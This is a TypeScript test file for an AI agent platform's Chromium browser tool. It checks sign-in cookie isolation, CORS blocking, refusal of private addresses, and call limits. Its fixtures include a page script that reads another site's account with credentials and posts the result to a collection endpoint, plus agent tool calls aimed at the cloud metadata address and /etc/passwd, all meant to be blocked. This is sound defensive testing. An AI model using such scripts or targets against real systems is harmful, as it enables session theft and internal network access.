import { expect } from 'chai';
import { OutboundTimeoutError } from '../activities/tools/errors.js';
import { callBrowserTool } from '../activities/tools/browser-tool.js';
import { chromiumNoSandbox } from '../activities/browser/chromium.js';
import { takeBrowserSlot } from '../activities/browser/launch-slots.js';
import { readPage } from '../activities/browser/read-page.js';
import { call, newTenant, type TestTenant } from './support/api.js';
import { createTool, publishAgent, scriptedGraph } from './support/agents.js';
import { failure } from './support/failure.js';
import { ALLOWED_TOOL_HOST, testPlatform } from './support/global.js';
import { stream } from './support/sse.js';
import { startToolServer, type LocalToolServer } from './support/tool-http-server.js';

const COOKIE_SECRET = 'cookie-secret-4f1b9e';
const TOKEN_SECRET = 'local-token-7c2d1a';
const policy = { allow: [ALLOWED_TOOL_HOST] };

function html(res: import('node:http').ServerResponse, body: string, headers: Record<string, string> = {}): void {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers });
  res.end(`<!doctype html><html><head><title>Test site</title></head><body>${body}</body></html>`);
}

describe('browser tool', function () {
  // Each call starts a Chromium of its own.
  this.timeout(120_000);

  let site: LocalToolServer;
  let otherPort: LocalToolServer;
  let refused: LocalToolServer;
  let tenant: TestTenant;

  before(async () => {
    // On 127.0.0.1, which TOOL_HTTP_ALLOW_HOSTS does not list: nothing may ever reach it.
    refused = await startToolServer((_request, res) => html(res, '<h1>internal secret</h1>'));
    site = await startToolServer((request, res) => {
      const path = request.url.split('?')[0];
      const signedIn = (request.headers.cookie ?? '').split('; ').includes(`sid=${COOKIE_SECRET}`);
      switch (path) {
        case '/account':
          if (!signedIn) return void res.writeHead(302, { location: '/login' }).end();
          return html(
            res,
            `<h1>Account of Ada</h1><p>Balance: <strong>42</strong> <a href="/statements">statements</a></p>` +
              `<ul><li>first order</li><li>second order</li></ul>` +
              `<img src="http://127.0.0.1:${refused.port}/pixel.png" alt="tracker">` +
              `<p id="ls"></p><script>document.getElementById('ls').textContent = localStorage.getItem('token') === '${TOKEN_SECRET}' ? 'Local token ok' : 'Local token missing';</script>`,
          );
        case '/login':
          return html(res, '<h1>Please sign in</h1><form><input name="user"><button>Sign in</button></form>');
        case '/sets-cookie':
          return void res.writeHead(302, { location: '/account', 'set-cookie': `sid=${COOKIE_SECRET}; Path=/; HttpOnly` }).end();
        case '/to-other':
          return void res.writeHead(302, { location: `${otherPort.origin}/steal` }).end();
        case '/framed':
          return html(res, `<h1>Framed</h1><iframe src="/r?to=${encodeURIComponent(`${otherPort.origin}/evil`)}"></iframe>`);
        case '/r':
          return void res.writeHead(302, { location: new URL(request.url, 'http://x').searchParams.get('to')! }).end();
        case '/many':
          return html(res, Array.from({ length: 400 }, (_, i) => `<img src="/px${i}.png">`).join(''));
        case '/to-internal':
          return void res.writeHead(302, { location: `http://127.0.0.1:${refused.port}/secret` }).end();
        case '/download':
          res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="report.bin"' });
          return void res.end('BINARY REPORT');
        case '/slow':
          return; // never answers
        case '/long':
          return html(res, Array.from({ length: 2000 }, (_, i) => `<p>Paragraph number ${i} of a long page.</p>`).join(''));
        default:
          res.writeHead(404).end('not here');
      }
    }, ALLOWED_TOOL_HOST);
    // The same host on another port: another origin, which a sign-in's cookies must not reach.
    otherPort = await startToolServer((request, res) => {
      switch (request.url) {
        case '/steal':
          // A page the signed-in site redirected to: it tries to read the site's account with the sign-in's cookies.
          return html(
            res,
            `<h1>Elsewhere</h1><img src="${site.origin}/account?from=img">` +
              `<script>
                const read = (init, tag) => fetch('${site.origin}/account?from=' + tag, { credentials: 'include', ...init })
                  .then((r) => r.text()).then((t) => 'read:' + t, (e) => 'blocked:' + e.name)
                  .then((result) => fetch('/collect', { method: 'POST', body: tag + ' ' + result }));
                read({}, 'fetch');
                read({ headers: { 'x-steal': '1' } }, 'preflight');
              </script>`,
          );
        case '/collect':
          return void res.writeHead(204).end();
        default:
          return html(res, `<h1>Other origin</h1><p>cookies: ${request.headers.cookie ? 'some' : 'none'}</p>`);
      }
    }, ALLOWED_TOOL_HOST);
    tenant = await newTenant('browser-tool');
  });
  after(async () => {
    await site.close();
    await otherPort.close();
    await refused.close();
  });

  function storageState() {
    return {
      cookies: [{ name: 'sid', value: COOKIE_SECRET, domain: ALLOWED_TOOL_HOST, path: '/', expires: -1, httpOnly: true, secure: false, sameSite: 'Lax' }],
      origins: [{ origin: site.origin, localStorage: [{ name: 'token', value: TOKEN_SECRET }] }],
    };
  }

  async function runCalls(agentName: string, toolRefs: string[], calls: Array<{ tool: string; arguments: Record<string, unknown> }>) {
    const agentId = await publishAgent(tenant.key, agentName, scriptedGraph([{ tool_calls: calls }, { text: 'read it' }], toolRefs));
    const response = await stream('POST', `/v1/agents/${agentId}/runs`, { key: tenant.key, body: { input: 'read the page' } });
    const runId = response.frames[0]!.data.run_id;
    const record = (await call('GET', `/v1/runs/${runId}`, { key: tenant.key })).body;
    return { record, frames: response.frames };
  }

  it('reads a page behind a cookie sign-in through a saved sign-in, as a step of a run, and the login page without it', async () => {
    const signIn = await call('POST', '/v1/browser/sign-ins', { key: tenant.key, body: { name: 'test-site', origin: site.origin, storage_state: storageState() } });
    expect(signIn.status).to.equal(201);
    const signedTool = await createTool(tenant.key, { name: 'browse_signed', kind: 'browser', browser: { sign_in: 'test-site' } });
    const plainTool = await createTool(tenant.key, { name: 'browse_plain', kind: 'browser', browser: {} });
    const before = refused.requests.length;

    const { record, frames } = await runCalls('reader', [signedTool, plainTool], [
      { tool: 'browse_signed', arguments: { url: `${site.origin}/account` } },
      { tool: 'browse_plain', arguments: { url: `${site.origin}/account` } },
      { tool: 'browse_signed', arguments: { url: `${otherPort.origin}/` } },
    ]);
    expect(record.run.status).to.equal('completed');
    const [signed, plain, other] = record.steps;

    expect(signed).to.include({ status: 'completed', tool: 'browse_signed' });
    expect(signed.result).to.include({ url: `${site.origin}/account`, status: 200, title: 'Test site', signed_in: true, truncated: false });
    expect(signed.result.markdown).to.equal(
      `# Account of Ada\n\nBalance: **42** [statements](${site.origin}/statements)\n\n- first order\n- second order\n\n![tracker]\n\nLocal token ok`,
    );
    // The page's sub-request to a refused address was refused, and never reached it.
    expect(signed.result.blocked).to.deep.equal([
      { url: `http://127.0.0.1:${refused.port}/pixel.png`, reason: 'refused: 127.0.0.1 is a loopback address; allow it with TOOL_HTTP_ALLOW_HOSTS' },
    ]);
    expect(refused.requests.length).to.equal(before);

    expect(plain.status).to.equal('completed');
    expect(plain.result).to.include({ url: `${site.origin}/login`, signed_in: false });
    expect(plain.result.markdown).to.equal('# Please sign in');

    // The sign-in is for its origin only: another port of the same host gets no cookie.
    expect(other.result).to.include({ signed_in: false, markdown: '# Other origin\n\ncookies: none' });

    // The storage state is in no response and no event.
    const stored = await testPlatform().db.selectFrom('browser_sign_ins').select('storage_state').where('id', '=', signIn.body.sign_in.id).executeTakeFirstOrThrow();
    const everything = JSON.stringify([record, frames, signIn.body]);
    for (const secret of [COOKIE_SECRET, TOKEN_SECRET, stored.storage_state]) expect(everything).to.not.include(secret);
    const events = await testPlatform().db.selectFrom('run_events').select('data').where('run_id', '=', record.run.id).execute();
    for (const secret of [COOKIE_SECRET, TOKEN_SECRET, stored.storage_state]) expect(JSON.stringify(events)).to.not.include(secret);
  });

  it('sends the sign-in\'s cookies only to its site\'s own requests, and another origin cannot read the site through the page', async () => {
    const signIn = await call('POST', '/v1/browser/sign-ins', { key: tenant.key, body: { name: 'test-site-steal', origin: site.origin, storage_state: storageState() } });
    expect(signIn.status).to.equal(201);
    const before = site.requests.length;
    const reading = await callBrowserTool(testPlatform().db, tenant.tenantId, { sign_in: signIn.body.sign_in.id }, { url: `${site.origin}/to-other` }, { policy });
    // The page ended up elsewhere: not signed in there.
    expect(reading).to.include({ url: `${otherPort.origin}/steal`, signed_in: false });
    expect(reading.markdown).to.equal('# Elsewhere');

    const atSite = site.requests.slice(before);
    // The signed-in document itself carried the cookie.
    expect(atSite.find((r) => r.url === '/to-other')?.headers.cookie).to.equal(`sid=${COOKIE_SECRET}`);
    const fromOther = atSite.filter((r) => r.url.startsWith('/account?from='));
    expect(fromOther.map((r) => `${r.method} ${r.url}`).sort()).to.deep.equal([
      'GET /account?from=fetch',
      'GET /account?from=img',
      // Asked of the site itself, which does not allow it: the request it would have let through is never sent.
      'OPTIONS /account?from=preflight',
    ]);
    for (const request of fromOther) expect(request.headers.cookie, request.url).to.equal(undefined);
    const collected = otherPort.requests.filter((r) => r.url === '/collect').map((r) => r.body).sort();
    expect(collected).to.deep.equal(['fetch blocked:TypeError', 'preflight blocked:TypeError']);
    expect(reading.blocked.map((b) => b.url)).to.deep.equal([`${site.origin}/account`]);
    expect(reading.blocked[0]!.reason).to.equal(`refused: ${site.origin} does not allow this cross-origin request from ${otherPort.origin} (CORS preflight)`);
  });

  it('does not follow a frame\'s redirect to another origin, and stops a page that makes too many requests', async () => {
    const before = otherPort.requests.length;
    const framed = await readPage(`${site.origin}/framed`, { policy, timeoutMs: 30_000, maxChars: 20_000 });
    expect(framed.markdown).to.equal('# Framed');
    expect(framed.blocked).to.deep.equal([{ url: `${site.origin}/r`, reason: `refused: a frame of ${site.origin}/r redirected to another origin, ${otherPort.origin}` }]);
    expect(otherPort.requests.slice(before).map((r) => r.url)).to.deep.equal([]);

    const err = await failure(readPage(`${site.origin}/many`, { policy, timeoutMs: 30_000, maxChars: 20_000 }));
    expect(err.message).to.equal('the page made more than 300 requests, the limit of one browser call');
  });

  it('refuses a private address, and a redirect to one, as a failed step, and nothing reaches it', async () => {
    const tool = await createTool(tenant.key, { name: 'browse_guarded', kind: 'browser', browser: {} });
    const before = refused.requests.length;
    const { record } = await runCalls('guarded', [tool], [
      { tool: 'browse_guarded', arguments: { url: `http://127.0.0.1:${refused.port}/secret` } },
      { tool: 'browse_guarded', arguments: { url: `${site.origin}/to-internal` } },
      { tool: 'browse_guarded', arguments: { url: 'http://169.254.169.254/latest/meta-data/' } },
      { tool: 'browse_guarded', arguments: { url: 'file:///etc/passwd' } },
    ]);
    expect(record.run.status).to.equal('completed');
    const [direct, redirected, metadata, file] = record.steps;
    expect(direct).to.include({ status: 'failed' });
    expect(direct.error).to.equal(`http://127.0.0.1:${refused.port}/secret could not be opened: refused: 127.0.0.1 is a loopback address; allow it with TOOL_HTTP_ALLOW_HOSTS`);
    expect(redirected).to.include({ status: 'failed' });
    expect(redirected.error).to.match(/refused: 127\.0\.0\.1 is a loopback address/);
    expect(metadata).to.include({ status: 'failed' });
    expect(metadata.error).to.match(/refused/);
    expect(file).to.include({ status: 'failed', error: 'invalid arguments: arguments.url must be an http or https URL' });
    expect(refused.requests.length).to.equal(before);
  });

  it('honours Set-Cookie within a call, across a redirect', async () => {
    const reading = await readPage(`${site.origin}/sets-cookie`, { policy, timeoutMs: 30_000, maxChars: 20_000 });
    expect(reading.url).to.equal(`${site.origin}/account`);
    expect(reading.markdown).to.match(/^# Account of Ada/);
    // A fresh context per call: the cookie set by the last call is gone.
    const next = await readPage(`${site.origin}/account`, { policy, timeoutMs: 30_000, maxChars: 20_000 });
    expect(next.markdown).to.equal('# Please sign in');
  });

  it('does not download a file', async () => {
    const err = await failure(readPage(`${site.origin}/download`, { policy, timeoutMs: 30_000, maxChars: 20_000 }));
    expect(err.message).to.equal(`${site.origin}/download is a download, and the browser tool does not download files`);
  });

  it('stops at the time limit', async () => {
    const started = Date.now();
    const err = await failure(readPage(`${site.origin}/slow`, { policy, timeoutMs: 3000, maxChars: 20_000 }));
    expect(err).to.be.instanceOf(OutboundTimeoutError);
    expect(err.message).to.equal(`opening ${site.origin}/slow took longer than the 3000 ms limit`);
    expect(Date.now() - started).to.be.below(8000);
  });

  it('caps the Markdown at max_chars, 20 000 by default', async () => {
    const reading = await callBrowserTool(testPlatform().db, tenant.tenantId, { max_chars: 200 }, { url: `${site.origin}/long` }, { policy });
    expect(reading.truncated).to.equal(true);
    expect(reading.markdown).to.have.length(201);
    expect(reading.markdown).to.match(/^Paragraph number 0 of a long page\.\n\nParagraph number 1/);
    expect(reading.markdown.endsWith('…')).to.equal(true);
    const byDefault = await callBrowserTool(testPlatform().db, tenant.tenantId, {}, { url: `${site.origin}/long` }, { policy });
    expect(byDefault).to.include({ truncated: true });
    expect(byDefault.markdown).to.have.length(20_001);
    const whole = await callBrowserTool(testPlatform().db, tenant.tenantId, { max_chars: 200_000 }, { url: `${site.origin}/long` }, { policy });
    expect(whole.truncated).to.equal(false);
    expect(whole.markdown.split('\n\n')).to.have.length(2000);
  });
});

describe('browser tool: processes', () => {
  it('runs at most BROWSER_MAX_CONCURRENT Chromiums, and a call waiting for one stops at its time limit', async () => {
    const saved = process.env.BROWSER_MAX_CONCURRENT;
    process.env.BROWSER_MAX_CONCURRENT = '1';
    try {
      const first = await takeBrowserSlot(AbortSignal.timeout(1000));
      const waited = await failure(takeBrowserSlot(AbortSignal.timeout(200)));
      expect(waited.name).to.equal('TimeoutError');
      const second = takeBrowserSlot(AbortSignal.timeout(5000));
      first();
      (await second)();
      process.env.BROWSER_MAX_CONCURRENT = 'many';
      expect((await failure(takeBrowserSlot(AbortSignal.timeout(1000)))).message).to.equal("BROWSER_MAX_CONCURRENT must be an integer from 1 to 9999, not 'many'");
    } finally {
      if (saved === undefined) delete process.env.BROWSER_MAX_CONCURRENT;
      else process.env.BROWSER_MAX_CONCURRENT = saved;
    }
  });

  it('keeps Chromium\'s sandbox unless CHROMIUM_NO_SANDBOX=true, and as root without it says how to run', () => {
    expect(chromiumNoSandbox({ CHROMIUM_NO_SANDBOX: 'true' })).to.equal(true);
    if (process.getuid?.() === 0) expect(() => chromiumNoSandbox({})).to.throw(/runs as root.*set CHROMIUM_NO_SANDBOX=true/);
    else expect(chromiumNoSandbox({})).to.equal(false);
  });
});
